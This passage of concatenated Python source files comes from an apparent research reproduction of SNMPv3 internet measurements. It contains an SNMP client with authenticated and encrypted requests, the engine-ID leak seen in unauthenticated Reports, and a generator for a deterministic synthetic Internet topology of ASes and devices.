            return None
        try:
            reply = CommunityMessage.decode(replies[0])
        except ber.BerDecodeError:
            return None
        if reply.pdu.error_status != constants.ERR_NO_ERROR or not reply.pdu.varbinds:
            return None
        return reply.pdu.varbinds[0].value

    # -- v3 --------------------------------------------------------------------

    def get_v3_noauth(
        self, user_name: bytes, oid: Oid, now: float = 0.0
    ) -> "tuple[VarValue | None, bytes | None]":
        """Unauthenticated v3 GET with a (probably unknown) user name.

        Mirrors the lab experiment: even when the agent rejects the user,
        the Report it sends back leaks the engine ID.  Returns
        ``(value_or_None, engine_id_or_None)``.
        """
        discovery = self.discover(now)
        if discovery is None:
            return None, None
        message = SnmpV3Message(
            msg_id=next(self._msg_ids),
            flags=constants.FLAG_REPORTABLE,
            security=UsmSecurityParameters(
                engine_id=discovery.engine_id,
                engine_boots=discovery.engine_boots,
                engine_time=discovery.engine_time,
                user_name=user_name,
            ),
            scoped_pdu=ScopedPdu(
                context_engine_id=discovery.engine_id,
                context_name=b"",
                pdu=pdu_mod.get_request(next(self._msg_ids), oid),
            ),
        )
        replies = self._agent.handle(message.encode(), now)
        if not replies:
            return None, None
        try:
            reply = SnmpV3Message.decode(replies[0])
        except ber.BerDecodeError:
            # Adversarial agents answer with garbage; no data, no engine ID.
            return None, None
        if reply.scoped_pdu is not None and reply.scoped_pdu.pdu.is_response:
            value = reply.scoped_pdu.pdu.varbinds[0].value if reply.scoped_pdu.pdu.varbinds else None
            return value, reply.security.engine_id
        # A Report: no data, but the engine ID is still disclosed.
        return None, reply.security.engine_id

    def get_next_v3_auth(
        self, user: UsmUser, oid: Oid, now: float = 0.0
    ) -> "tuple[Oid, VarValue] | None":
        """Authenticated GETNEXT: the (oid, value) following ``oid``."""
        reply = self._authenticated_request(
            user, pdu_mod.Pdu(tag=constants.TAG_GET_NEXT_REQUEST,
                              request_id=next(self._msg_ids),
                              varbinds=(pdu_mod.VarBind(oid),)),
            now,
        )
        if reply is None or not reply.varbinds:
            return None
        varbind = reply.varbinds[0]
        return varbind.name, varbind.value

    def get_bulk_v3_auth(
        self,
        user: UsmUser,
        oids: "list[Oid]",
        max_repetitions: int = 10,
        non_repeaters: int = 0,
        now: float = 0.0,
    ) -> "list[tuple[Oid, VarValue]]":
        """Authenticated GETBULK over one or more columns."""
        request = pdu_mod.Pdu(
            tag=constants.TAG_GET_BULK_REQUEST,
            request_id=next(self._msg_ids),
            error_status=non_repeaters,
            error_index=max_repetitions,
            varbinds=tuple(pdu_mod.VarBind(oid) for oid in oids),
        )
        reply = self._authenticated_request(user, request, now)
        if reply is None:
            return []
        return [(vb.name, vb.value) for vb in reply.varbinds]

    def walk_v3_auth(
        self, user: UsmUser, prefix: Oid, now: float = 0.0, limit: int = 10_000
    ) -> "list[tuple[Oid, VarValue]]":
        """Authenticated subtree walk via repeated GETNEXT."""
        rows: list[tuple[Oid, VarValue]] = []
        cursor = prefix
        for __ in range(limit):
            entry = self.get_next_v3_auth(user, cursor, now)
            if entry is None or not prefix.is_prefix_of(entry[0]):
                break
            rows.append(entry)
            cursor = entry[0]
        return rows

    def get_v3_auth(
        self,
        user: UsmUser,
        oid: Oid,
        now: float = 0.0,
    ) -> "VarValue | None":
        """Authenticated (authNoPriv) v3 GET."""
        reply = self._authenticated_request(
            user, pdu_mod.get_request(next(self._msg_ids), oid), now
        )
        if reply is None or not reply.varbinds:
            return None
        return reply.varbinds[0].value

    def get_v3_priv(
        self, user: UsmUser, oid: Oid, now: float = 0.0
    ) -> "VarValue | None":
        """Fully protected (authPriv) GET: HMAC-authenticated and
        AES-128-CFB encrypted per RFC 3826."""
        if not user.has_privacy:
            raise ValueError("user has no privacy password configured")
        reply = self._authenticated_request(
            user, pdu_mod.get_request(next(self._msg_ids), oid), now, encrypt=True
        )
        if reply is None or not reply.varbinds:
            return None
        return reply.varbinds[0].value

    def _authenticated_request(
        self, user: UsmUser, request_pdu: pdu_mod.Pdu, now: float,
        encrypt: bool = False,
    ) -> "pdu_mod.Pdu | None":
        """Discovery + (encrypt) + sign + send; returns the Response PDU."""
        discovery = self.discover(now)
        if discovery is None:
            return None
        scoped = ScopedPdu(
            context_engine_id=discovery.engine_id,
            context_name=b"",
            pdu=request_pdu,
        )
        flags = constants.FLAG_REPORTABLE | constants.FLAG_AUTH
        priv_key = None
        if encrypt:
            flags |= constants.FLAG_PRIV
            self._salt = getattr(self, "_salt", 0) + 1
            salt = self._salt.to_bytes(8, "big")
            priv_key = privacy_key_from_password(
                user.priv_password, discovery.engine_id, user.auth_protocol
            )
            ciphertext = encrypt_scoped_pdu(
                priv_key, discovery.engine_boots, discovery.engine_time,
                salt, scoped.encode(),
            )
            message = SnmpV3Message(
                msg_id=next(self._msg_ids),
                flags=flags,
                security=UsmSecurityParameters(
                    engine_id=discovery.engine_id,
                    engine_boots=discovery.engine_boots,
                    engine_time=discovery.engine_time,
                    user_name=user.name,
                    auth_params=_ZEROED_MAC,
                    priv_params=salt,
                ),
                encrypted_pdu=ciphertext,
            )
        else:
            message = SnmpV3Message(
                msg_id=next(self._msg_ids),
                flags=flags,
                security=UsmSecurityParameters(
                    engine_id=discovery.engine_id,
                    engine_boots=discovery.engine_boots,
                    engine_time=discovery.engine_time,
                    user_name=user.name,
                    auth_params=_ZEROED_MAC,
                ),
                scoped_pdu=scoped,
            )
        blob = message.encode()
        key = localized_key_from_password(
            user.password, discovery.engine_id, user.auth_protocol
        )
        mac = compute_mac(key, blob, user.auth_protocol)
        signed = blob.replace(_ZEROED_MAC, mac, 1)
        replies = self._agent.handle(signed, now)
        if not replies:
            return None
        try:
            reply = SnmpV3Message.decode(replies[0])
        except ber.BerDecodeError:
            return None
        if reply.is_encrypted:
            if priv_key is None or len(reply.security.priv_params) != 8:
                return None
            try:
                plaintext = decrypt_scoped_pdu(
                    priv_key,
                    reply.security.engine_boots,
                    reply.security.engine_time,
                    reply.security.priv_params,
                    reply.encrypted_pdu or b"",
                )
                reply_scoped, __ = ScopedPdu.decode(plaintext, 0)
            except ber.BerDecodeError:
                return None
        else:
            reply_scoped = reply.scoped_pdu
        if reply_scoped is None or not reply_scoped.pdu.is_response:
            return None
        if reply_scoped.pdu.error_status != constants.ERR_NO_ERROR:
            return None
        return reply_scoped.pdu
