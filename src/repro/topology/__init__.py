"""Synthetic Internet topology: the measurement substrate.

The paper scans the live Internet; this package builds its stand-in — a
deterministic population of autonomous systems and devices whose SNMP
agents, address plans, vendor mixes and behavioural quirks follow the
distributions the paper reports, so every downstream stage (scanner,
filters, alias resolution, fingerprinting, per-AS analyses) exercises its
real logic against realistic inputs with known ground truth.

Main entry points:

* :class:`repro.topology.config.TopologyConfig` — all generation knobs,
  with :meth:`paper_scale` presets;
* :class:`repro.topology.generator.TopologyGenerator` — builds a
  :class:`repro.topology.model.Topology`;
* :mod:`repro.topology.datasets` — derives the third-party dataset views
  (ITDK, RIPE Atlas, IPv6 Hitlist, rDNS zone) used for router tagging and
  for the comparison experiments.
"""

from repro.topology.config import TopologyConfig
from repro.topology.datasets import (
    StreamedRouterDatasets,
    TopologyFileError,
    dump_topology_file,
    load_topology_file,
)
from repro.topology.generator import TopologyGenerator, build_topology
from repro.topology.lazy import LazyTopology, StreamPlan
from repro.topology.model import AutonomousSystem, Device, DeviceType, Interface, Region, Topology

__all__ = [
    "AutonomousSystem",
    "Device",
    "DeviceType",
    "Interface",
    "LazyTopology",
    "Region",
    "StreamPlan",
    "StreamedRouterDatasets",
    "Topology",
    "TopologyConfig",
    "TopologyFileError",
    "TopologyGenerator",
    "build_topology",
    "dump_topology_file",
    "load_topology_file",
]
