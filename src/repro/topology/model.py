"""Topology data model: regions, ASes, devices, interfaces.

Everything the generator creates is stored here, together with the ground
truth the evaluation needs (which IPs belong to which device, each
device's true vendor, type and behaviour).
"""

from __future__ import annotations

import enum
import ipaddress
from dataclasses import dataclass, field
from typing import Iterator

from repro.net.addresses import IPAddress
from repro.snmp.agent import SnmpAgent
from repro.snmp.engine_id import EngineId


class Region(enum.Enum):
    """Continents, as the paper aggregates networks (Figure 15/18/20)."""

    EU = "EU"
    NA = "NA"
    AS = "AS"
    SA = "SA"
    AF = "AF"
    OC = "OC"


class DeviceType(enum.Enum):
    """Coarse device classes in the simulated population."""

    ROUTER = "router"
    SERVER = "server"
    CPE = "cpe"
    IOT = "iot"
    LOAD_BALANCER = "load-balancer"


@dataclass(frozen=True)
class Interface:
    """One addressed interface of a device."""

    address: IPAddress
    mac: "object | None" = None  # MacAddress; None for virtual interfaces
    snmp_reachable: bool = True  # False models per-interface ACLs

    @property
    def version(self) -> int:
        return self.address.version


@dataclass
class Device:
    """A simulated network device with its SNMP engine and quirks.

    ``agent`` is the live SNMP engine answering probes; ``interfaces`` are
    the addresses bound on the fabric.  ``dhcp_pool`` marks devices whose
    address changes between scans (CPE churn).
    """

    device_id: int
    device_type: DeviceType
    vendor: str
    asn: int
    region: Region
    interfaces: list[Interface]
    agent: SnmpAgent
    snmp_open: bool = True        # answers SNMP from the open Internet
    dhcp_pool: bool = False       # re-addresses between scans
    open_tcp_ports: tuple[int, ...] = ()
    ip_id_rate: float = 0.0       # shared IP-ID counter velocity (ids/sec)
    ip_id_random: bool = False    # per-packet random IP-ID instead of counter
    os_family: str = ""
    reboot_between_scans: bool = False  # restarts in the inter-scan window
    agent_pool: "object | None" = None  # AgentPool when this is a LB VIP
    nat_gateway: bool = False           # engine ID reveals a private LAN

    @property
    def engine_id(self) -> EngineId:
        return self.agent.engine_id

    @property
    def ipv4_interfaces(self) -> list[Interface]:
        return [itf for itf in self.interfaces if itf.version == 4]

    @property
    def ipv6_interfaces(self) -> list[Interface]:
        return [itf for itf in self.interfaces if itf.version == 6]

    @property
    def is_dual_stack(self) -> bool:
        return bool(self.ipv4_interfaces) and bool(self.ipv6_interfaces)

    @property
    def addresses(self) -> list[IPAddress]:
        return [itf.address for itf in self.interfaces]


@dataclass
class AutonomousSystem:
    """A network: number, region, address space and device membership."""

    asn: int
    region: Region
    ipv4_prefix: ipaddress.IPv4Network
    ipv6_prefix: ipaddress.IPv6Network
    name: str = ""
    rdns_suffix: str = ""
    rdns_style: str = "iface-router"
    device_ids: list[int] = field(default_factory=list)
    next_host: int = 0  # address-allocation cursor used during generation
    router_open_rate: float = 0.16  # AS-level SNMP management exposure policy

    def __post_init__(self) -> None:
        if not self.name:
            self.name = f"AS{self.asn}"
        if not self.rdns_suffix:
            self.rdns_suffix = f"net{self.asn}.example"


@dataclass
class Topology:
    """The generated Internet: ASes, devices and ground-truth lookups."""

    ases: dict[int, AutonomousSystem]
    devices: dict[int, Device]
    seed: int
    epoch: float = 0.0
    #: ``"sequential"`` (classic creation-order world), ``"streamed"``
    #: (per-slot derivation, lazy-equivalent) or ``"file"`` (ingested
    #: topology description).
    layout: str = "sequential"

    def __post_init__(self) -> None:
        self._device_by_address: dict[IPAddress, int] = {}
        for device in self.devices.values():
            for interface in device.interfaces:
                self._device_by_address[interface.address] = device.device_id

    # -- ground truth -------------------------------------------------------

    def device_of_address(self, address: IPAddress) -> "Device | None":
        """Ground truth: which device owns this address."""
        device_id = self._device_by_address.get(address)
        if device_id is None:
            return None
        return self.devices[device_id]

    def address_owners(self) -> "dict[IPAddress, int]":
        """A copy of the ``address -> device id`` ground-truth map.

        Callers that resolve owners per probe (the executor's shard
        planner, the retry breaker) overlay their live rebinding state on
        this copy instead of paying two hash lookups per address.
        """
        return dict(self._device_by_address)

    def true_alias_sets(self, version: "int | None" = None) -> dict[int, frozenset[IPAddress]]:
        """Ground-truth alias sets: device id -> its addresses.

        ``version`` restricts to one address family; ``None`` returns the
        dual-stack truth.
        """
        result: dict[int, frozenset[IPAddress]] = {}
        for device in self.devices.values():
            addrs = [
                itf.address
                for itf in device.interfaces
                if version is None or itf.version == version
            ]
            if addrs:
                result[device.device_id] = frozenset(addrs)
        return result

    def routers(self) -> Iterator[Device]:
        """All router devices."""
        return (d for d in self.devices.values() if d.device_type is DeviceType.ROUTER)

    def devices_in_as(self, asn: int) -> Iterator[Device]:
        """Devices belonging to one AS."""
        for device_id in self.ases[asn].device_ids:
            yield self.devices[device_id]

    def all_addresses(self, version: int) -> list[IPAddress]:
        """Every assigned address of one family (scan ground truth)."""
        return [addr for addr, __ in self._iter_addrs(version)]

    def _iter_addrs(self, version: int) -> Iterator[tuple[IPAddress, Device]]:
        for device in self.devices.values():
            for interface in device.interfaces:
                if interface.version == version:
                    yield interface.address, device

    # -- statistics ------------------------------------------------------------

    @property
    def device_count(self) -> int:
        return len(self.devices)

    @property
    def router_count(self) -> int:
        return sum(1 for __ in self.routers())

    def vendor_counts(self, device_type: "DeviceType | None" = None) -> dict[str, int]:
        """Ground-truth vendor histogram, optionally per device type."""
        counts: dict[str, int] = {}
        for device in self.devices.values():
            if device_type is not None and device.device_type is not device_type:
                continue
            counts[device.vendor] = counts.get(device.vendor, 0) + 1
        return counts
