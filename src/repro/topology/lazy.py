"""Streamed topology layout: devices as pure functions of ``(seed, slot)``.

The sequential generator threads one RNG through every device, so device
N can only be built after devices 1..N-1.  The streamed layout breaks
that chain: a compact :class:`StreamPlan` (O(number of ASes)) fixes each
AS's region, vendor profile and device counts, and every device then
derives from an independent RNG keyed on ``(seed, asn, slot-index)``
with arithmetic address slots.  Any device can therefore be rebuilt in
isolation — at probe time, in any order, any number of times — and the
result is byte-identical to eagerly materializing the whole world
(``TopologyGenerator.build()`` with ``layout="streamed"`` iterates the
same slots through the same derivation functions).

Address arithmetic (the invertible part):

* IPv4 — device ``k`` of an AS owns the slot
  ``[v4_base + 1 + k*block, v4_base + 1 + (k+1)*block)`` inside the AS
  /16 (``block = config.stream_v4_block``); ``locate()`` inverts this
  with a divmod.
* IPv6 — device ``k`` owns /64 subnet ``k`` of the AS /32:
  ``v6_base + (k << 64) + host`` where the host bits are either small
  sequential counters or EUI-64 interface IDs.

Between-scan events are pure functions too: :func:`reboot_time` keys on
the device id, :func:`churn_roll` on ``(version, address)``, so reboots
and DHCP churn apply identically whether the world is lazy or eager.
"""

from __future__ import annotations

import bisect
import ipaddress
import random
import time
import weakref
from collections import OrderedDict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from hashlib import sha256
from typing import Iterable

from repro.net.addresses import IPAddress
from repro.net.eui64 import eui64_interface_id
from repro.net.mac import MacAddress
from repro.oui.registry import OuiRegistry, default_registry
from repro.topology import timeline
from repro.topology.config import REGION_AS_WEIGHTS, TopologyConfig
from repro.topology.generator import (
    _RDNS_STYLES,
    _USABLE_FIRST_OCTETS,
    NIC_SUBSTITUTES,
    SharedPopulations,
    TopologyGenerator,
    derive_endhost,
    derive_load_balancer,
    derive_router,
    derive_shared_populations,
)
from repro.topology.model import (
    AutonomousSystem,
    Device,
    DeviceType,
    Region,
)

__all__ = [
    "CHURN_PROBABILITY",
    "AsPlan",
    "DeviceSlot",
    "LazyTopology",
    "MembershipInterface",
    "SlotMembership",
    "StreamPlan",
    "build_as_objects",
    "churn_roll",
    "derive_churn_rotation",
    "derive_device",
    "derive_membership",
    "membership_of_device",
    "mix",
    "reboot_time",
]

#: Per-family probability that a bound DHCP-pool address moves between
#: scan rounds (shared with the sequential campaign path).
CHURN_PROBABILITY = {4: 0.6, 6: 0.15}

#: Churn-rotation cache geometry.  One 65536-target planning window spans
#: at most ~8192 device slots (v4) or 65536 slots (v6) — far fewer ASes —
#: so these caps keep every map a window needs resident while bounding
#: memory by a constant regardless of world size.
_CHURN_MAP_CAP = 4096
_CHURN_ENTRY_BUDGET = 262_144

_V6_ORIGIN = int(ipaddress.IPv6Address("2a00::"))


def mix(seed: int, *parts: object) -> int:
    """Derive an independent 64-bit RNG seed from ``seed`` and a key path.

    SHA-256 based so nearby seeds and slots get uncorrelated streams —
    ``random.Random(seed + k)`` style mixing leaks correlations across
    neighbouring devices.
    """
    tag = "|".join(str(part) for part in parts)
    digest = sha256(f"{seed}|{tag}".encode()).digest()
    return int.from_bytes(digest[:8], "big")


@dataclass(frozen=True)
class AsPlan:
    """Everything an AS contributes to per-device derivation."""

    index: int
    asn: int
    region: Region
    rdns_style: str
    v4_base: int
    v6_base: int
    open_rate: float
    primary_vendor: str
    dominance: float
    n_routers: int
    n_servers: int
    n_cpe: int
    n_lbs: int
    device_id_base: int

    @property
    def n_devices(self) -> int:
        return self.n_routers + self.n_servers + self.n_cpe + self.n_lbs

    def device_type_of(self, index: int) -> DeviceType:
        if index < self.n_routers:
            return DeviceType.ROUTER
        if index < self.n_routers + self.n_servers:
            return DeviceType.SERVER
        if index < self.n_routers + self.n_servers + self.n_cpe:
            return DeviceType.CPE
        return DeviceType.LOAD_BALANCER


@dataclass(frozen=True, slots=True)
class DeviceSlot:
    """The coordinates a streamed device derives from."""

    asn: int
    index: int
    device_id: int
    device_type: DeviceType


def _largest_remainder(total: int, weights: list[float]) -> list[int]:
    """Apportion ``total`` across ``weights`` (deterministic ties by index)."""
    denom = sum(weights)
    if total <= 0 or denom <= 0:
        return [0] * len(weights)
    quotas = [total * w / denom for w in weights]
    counts = [int(q) for q in quotas]
    shortfall = total - sum(counts)
    order = sorted(range(len(weights)), key=lambda i: (counts[i] - quotas[i], i))
    for i in order[:shortfall]:
        counts[i] += 1
    return counts


def _plan_vendor_profile(cfg: TopologyConfig, rng: random.Random,
                         region: Region, n_routers: int) -> tuple[str, float]:
    """Primary vendor + dominance, mirroring the sequential distributions."""
    share = dict(cfg.router_vendor_share[region])
    if n_routers >= max(20, cfg.router_per_as_max // 3):
        share = {v: share.get(v, 0.0) for v in TopologyGenerator._MAJOR_VENDORS}
    vendors = [v for v, w in share.items() if w > 0]
    weights = [share[v] for v in vendors]
    primary = rng.choices(vendors, weights=weights)[0]
    if rng.random() < cfg.single_vendor_as_frac:
        return primary, 1.0
    dominance = rng.betavariate(cfg.dominance_beta_a, cfg.dominance_beta_b)
    return primary, min(1.0, max(0.3, dominance))


def _plan_open_rate(cfg: TopologyConfig, rng: random.Random, n_routers: int) -> float:
    mixture = (
        cfg.large_as_open_rates
        if n_routers >= cfg.large_as_threshold
        else cfg.as_router_open_rates
    )
    rates = [r for r, __ in mixture]
    weights = [w for __, w in mixture]
    return rng.choices(rates, weights=weights)[0]


class StreamPlan:
    """The O(ASes) skeleton every streamed derivation hangs off.

    Building the plan draws only per-AS randomness (region, size, vendor
    profile) from :func:`mix`-keyed streams; no device exists yet.
    """

    def __init__(self, *, config: TopologyConfig) -> None:
        cfg = config
        self.config = cfg
        self.seed = cfg.seed
        self.block = cfg.stream_v4_block
        if self.block < max(2, cfg.server_multi_ip_max, cfg.cpe_multi_ip_max):
            raise ValueError(
                f"stream_v4_block={self.block} cannot hold the largest "
                f"multi-IP device (server_multi_ip_max={cfg.server_multi_ip_max}, "
                f"cpe_multi_ip_max={cfg.cpe_multi_ip_max})"
            )

        regions = list(REGION_AS_WEIGHTS)
        region_weights = [REGION_AS_WEIGHTS[r] for r in regions]
        size_factor = TopologyGenerator._REGION_SIZE_FACTOR
        alpha = cfg.router_per_as_alpha
        high = max(20.0, cfg.n_routers * 0.03)
        low = 0.6

        chosen_regions: list[Region] = []
        styles: list[str] = []
        raw_sizes: list[float] = []
        for index in range(cfg.n_ases):
            rng_as = random.Random(mix(cfg.seed, "as", index))
            region = rng_as.choices(regions, weights=region_weights)[0]
            style = rng_as.choices(_RDNS_STYLES, weights=(0.35, 0.30, 0.15, 0.20))[0]
            u = rng_as.random()
            x = (low ** -alpha - u * (low ** -alpha - high ** -alpha)) ** (-1.0 / alpha)
            chosen_regions.append(region)
            styles.append(style)
            raw_sizes.append(x * size_factor[region])

        scale = cfg.n_routers / sum(raw_sizes)
        router_counts = [max(1, round(x * scale)) for x in raw_sizes]
        delta = cfg.n_routers - sum(router_counts)
        router_counts[max(range(len(router_counts)),
                          key=router_counts.__getitem__)] += delta

        weights = [rc + 2.0 for rc in router_counts]
        server_counts = _largest_remainder(cfg.n_servers, weights)
        cpe_counts = _largest_remainder(cfg.n_cpe, weights)
        lb_counts = _largest_remainder(
            round(cfg.n_servers * cfg.lb_frac_of_servers), weights)

        plans: list[AsPlan] = []
        device_id_base = 1
        for index in range(cfg.n_ases):
            rng_profile = random.Random(mix(cfg.seed, "as-profile", index))
            n_routers = router_counts[index]
            open_rate = _plan_open_rate(cfg, rng_profile, n_routers)
            primary, dominance = _plan_vendor_profile(
                cfg, rng_profile, chosen_regions[index], n_routers)
            first = _USABLE_FIRST_OCTETS[index // 256 % len(_USABLE_FIRST_OCTETS)]
            second = index % 256
            plan = AsPlan(
                index=index,
                asn=64500 + index,
                region=chosen_regions[index],
                rdns_style=styles[index],
                v4_base=(first << 24) | (second << 16),
                v6_base=_V6_ORIGIN + (index << 96),
                open_rate=open_rate,
                primary_vendor=primary,
                dominance=dominance,
                n_routers=n_routers,
                n_servers=server_counts[index],
                n_cpe=cpe_counts[index],
                n_lbs=lb_counts[index],
                device_id_base=device_id_base,
            )
            if plan.n_devices * self.block > 0xFFFE:
                raise ValueError(
                    f"AS{plan.asn} needs {plan.n_devices} device slots of "
                    f"{self.block} IPv4 addresses each, which overflows its "
                    f"/16; lower stream_v4_block or raise scale_divisor"
                )
            device_id_base += plan.n_devices
            plans.append(plan)

        self.plans = plans
        self.device_count = device_id_base - 1
        self._by_asn = {plan.asn: plan for plan in plans}
        self._by_v4_prefix = {plan.v4_base >> 16: plan for plan in plans}
        self._id_bases = [plan.device_id_base for plan in plans]
        self._v4_order = sorted(plans, key=lambda p: p.v4_base)

    # -- lookups ------------------------------------------------------------

    def as_plan(self, asn: int) -> AsPlan:
        return self._by_asn[asn]

    def _slot(self, plan: AsPlan, index: int) -> DeviceSlot:
        return DeviceSlot(
            asn=plan.asn,
            index=index,
            device_id=plan.device_id_base + index,
            device_type=plan.device_type_of(index),
        )

    def locate(self, address: IPAddress) -> "DeviceSlot | None":
        """Invert the address arithmetic: which slot owns ``address``."""
        addr_int = int(address)
        if address.version == 4:
            plan = self._by_v4_prefix.get(addr_int >> 16)
            if plan is None:
                return None
            offset = addr_int & 0xFFFF
            if offset < 1:
                return None
            index, __ = divmod(offset - 1, self.block)
            if index >= plan.n_devices:
                return None
            return self._slot(plan, index)
        if addr_int < _V6_ORIGIN:
            return None
        as_index = (addr_int - _V6_ORIGIN) >> 96
        if as_index >= len(self.plans):
            return None
        plan = self.plans[as_index]
        index = (addr_int >> 64) & 0xFFFFFFFF
        if index >= plan.n_devices:
            return None
        return self._slot(plan, index)

    def owner_ids(self, addresses: "list[IPAddress]") -> "list[int | None]":
        """Batch owner lookup: ``locate(a).device_id`` without the slot.

        Shard planning only needs the owning device id, and it needs it
        for every target of every window — the dominant ``locate``
        caller.  This is the same address arithmetic as :meth:`locate`
        run as one loop with hoisted lookups and no ``DeviceSlot``
        construction, which is what makes lazy planning a batch sweep
        instead of an object allocation per target.
        """
        by_v4_prefix = self._by_v4_prefix.get
        plans = self.plans
        n_plans = len(plans)
        block = self.block
        out: "list[int | None]" = []
        append = out.append
        for address in addresses:
            addr_int = int(address)
            if address.version == 4:
                plan = by_v4_prefix(addr_int >> 16)
                if plan is None:
                    append(None)
                    continue
                offset = addr_int & 0xFFFF
                if offset < 1:
                    append(None)
                    continue
                index = (offset - 1) // block
            else:
                if addr_int < _V6_ORIGIN:
                    append(None)
                    continue
                as_index = (addr_int - _V6_ORIGIN) >> 96
                if as_index >= n_plans:
                    append(None)
                    continue
                plan = plans[as_index]
                index = (addr_int >> 64) & 0xFFFFFFFF
            if index >= plan.n_devices:
                append(None)
                continue
            append(plan.device_id_base + index)
        return out

    def slot_of_device_id(self, device_id: int) -> "DeviceSlot | None":
        if device_id < 1 or device_id > self.device_count:
            return None
        i = bisect.bisect_right(self._id_bases, device_id) - 1
        plan = self.plans[i]
        return self._slot(plan, device_id - plan.device_id_base)

    # -- iteration ----------------------------------------------------------

    def iter_slots(self) -> Iterator[DeviceSlot]:
        """All slots in device-id order (the eager build order)."""
        for plan in self.plans:
            for index in range(plan.n_devices):
                yield self._slot(plan, index)

    def iter_v4_targets(self) -> Iterator[ipaddress.IPv4Address]:
        """The full IPv4 slot sweep in global address order.

        Covers every slot address whether or not the owning device bound
        it — the streamed analogue of probing the routable space.
        """
        for plan in self._v4_order:
            base = plan.v4_base
            for offset in range(1, plan.n_devices * self.block + 1):
                yield ipaddress.IPv4Address(base + offset)

    @property
    def v4_target_count(self) -> int:
        return sum(plan.n_devices for plan in self.plans) * self.block


def build_as_objects(plan: StreamPlan) -> dict[int, AutonomousSystem]:
    """AS model objects for a stream plan (``device_ids`` left to callers)."""
    ases: dict[int, AutonomousSystem] = {}
    for as_plan in plan.plans:
        asys = AutonomousSystem(
            asn=as_plan.asn,
            region=as_plan.region,
            ipv4_prefix=ipaddress.ip_network((as_plan.v4_base, 16)),
            ipv6_prefix=ipaddress.ip_network((as_plan.v6_base, 32)),
            name=f"AS{as_plan.asn}",
            rdns_suffix=f"net{as_plan.asn}.example",
            router_open_rate=as_plan.open_rate,
        )
        asys.rdns_style = as_plan.rdns_style
        ases[as_plan.asn] = asys
    return ases


class _SlotAllocator:
    """Arithmetic allocation inside one device slot — no shared cursors."""

    def __init__(self, *, registry: OuiRegistry, plan: StreamPlan,
                 as_plan: AsPlan, slot: DeviceSlot, rng: random.Random) -> None:
        self._registry = registry
        self._plan = plan
        self._as_plan = as_plan
        self._slot = slot
        self._rng = rng
        self._v4_cursor = 0
        self._v6_cursor = 0

    def next_mac(self, vendor: str, count: int = 1) -> MacAddress:
        substitutes = NIC_SUBSTITUTES.get(vendor)
        if substitutes is not None:
            vendor = substitutes[self._rng.randrange(len(substitutes))]
        block_index = self._rng.randrange(1 << 12)
        # Leave successor() headroom below the 24-bit NIC ceiling.
        device_index = self._rng.randrange((1 << 24) - 4096)
        return self._registry.make_mac(vendor, block_index, device_index)

    def alloc_v4(self, asys: AutonomousSystem) -> ipaddress.IPv4Address:
        cursor = self._v4_cursor
        if cursor >= self._plan.block:
            raise ValueError(
                f"device slot IPv4 budget exhausted "
                f"(stream_v4_block={self._plan.block})"
            )
        self._v4_cursor = cursor + 1
        return ipaddress.IPv4Address(
            self._as_plan.v4_base + 1 + self._slot.index * self._plan.block + cursor
        )

    def alloc_v6(self, asys: AutonomousSystem) -> ipaddress.IPv6Address:
        self._v6_cursor += 1
        return ipaddress.IPv6Address(
            self._as_plan.v6_base + (self._slot.index << 64) + self._v6_cursor
        )

    def alloc_v6_eui64(self, asys: AutonomousSystem,
                       mac: MacAddress) -> ipaddress.IPv6Address:
        return ipaddress.IPv6Address(
            self._as_plan.v6_base + (self._slot.index << 64)
            + eui64_interface_id(mac)
        )

    def next_device_id(self) -> int:
        return self._slot.device_id

    def iface_cap(self, protocol: str) -> int:
        cap = self._plan.config.router_iface_max
        if protocol == "v4":
            return min(cap, self._plan.block)
        if protocol == "dual":
            # A dual router assigns v4 to two of every three interfaces.
            return min(cap, (3 * self._plan.block) // 2)
        return cap


def derive_device(cfg: TopologyConfig, registry: OuiRegistry, plan: StreamPlan,
                  slot: DeviceSlot, shared: SharedPopulations,
                  ases: Mapping[int, AutonomousSystem]) -> Device:
    """Materialize one slot. Pure in ``(cfg, slot)``: order-independent."""
    as_plan = plan.as_plan(slot.asn)
    asys = ases[slot.asn]
    rng = random.Random(mix(plan.seed, "device", slot.asn, slot.index))
    mac_rng = random.Random(mix(plan.seed, "mac", slot.asn, slot.index))
    alloc = _SlotAllocator(registry=registry, plan=plan, as_plan=as_plan,
                           slot=slot, rng=mac_rng)
    if slot.device_type is DeviceType.ROUTER:
        return derive_router(cfg, rng, alloc, shared, asys,
                             as_plan.primary_vendor, as_plan.dominance)
    if slot.device_type is DeviceType.LOAD_BALANCER:
        return derive_load_balancer(cfg, rng, alloc, asys)
    share = (
        cfg.server_vendor_share
        if slot.device_type is DeviceType.SERVER
        else cfg.cpe_vendor_share
    )
    vendors = list(share)
    vendor = rng.choices(vendors, weights=[share[v] for v in vendors])[0]
    return derive_endhost(cfg, rng, alloc, shared, asys, slot.device_type, vendor)


# -- membership-only derivation --------------------------------------------------
#
# Most ownership questions a campaign asks — "is this address bound?",
# "is the owner SNMP-open?", "does this DHCP-pool interface churn?" — need
# only the slot's address layout and open/reachable flags, all of which the
# per-device RNG draws *before* the expensive engine-ID/agent derivation.
# ``derive_membership`` replays exactly that prefix of the draw stream and
# stops, producing a compact record a few hundred bytes wide instead of a
# full ``Device``.  The prefix must stay draw-for-draw identical to
# ``derive_router``/``derive_endhost`` (the per-slot RNG is private, so
# stopping early is safe); ``tests/topology/test_membership.py`` holds the
# two paths equal property-style across seeds, slots and churn rolls.


@dataclass(frozen=True, slots=True)
class MembershipInterface:
    """The slice of ``Interface`` that ownership queries consult."""

    address: IPAddress
    snmp_reachable: bool = True

    @property
    def version(self) -> int:
        return self.address.version


@dataclass(frozen=True, slots=True)
class SlotMembership:
    """Address/openness facts for one slot, without the agent machinery.

    Duck-types as a ``Device`` for :func:`derive_churn_rotation` (which
    reads ``dhcp_pool``/``snmp_open``/``device_id``/``interfaces`` only).
    """

    device_id: int
    device_type: DeviceType
    snmp_open: bool
    dhcp_pool: bool
    interfaces: tuple[MembershipInterface, ...]


def membership_of_device(device: Device) -> SlotMembership:
    """Project an already-materialized device onto its membership record."""
    return SlotMembership(
        device_id=device.device_id,
        device_type=device.device_type,
        snmp_open=device.snmp_open,
        dhcp_pool=device.dhcp_pool,
        interfaces=tuple(
            MembershipInterface(
                address=interface.address,
                snmp_reachable=interface.snmp_reachable,
            )
            for interface in device.interfaces
        ),
    )


def _pack_membership(record: SlotMembership) -> bytes:
    """Byte-pack a membership record for cache residency.

    One flags byte (``snmp_open`` | ``dhcp_pool`` << 1) followed by 17
    bytes per interface (meta byte: reachable | is-v6 << 1; then the
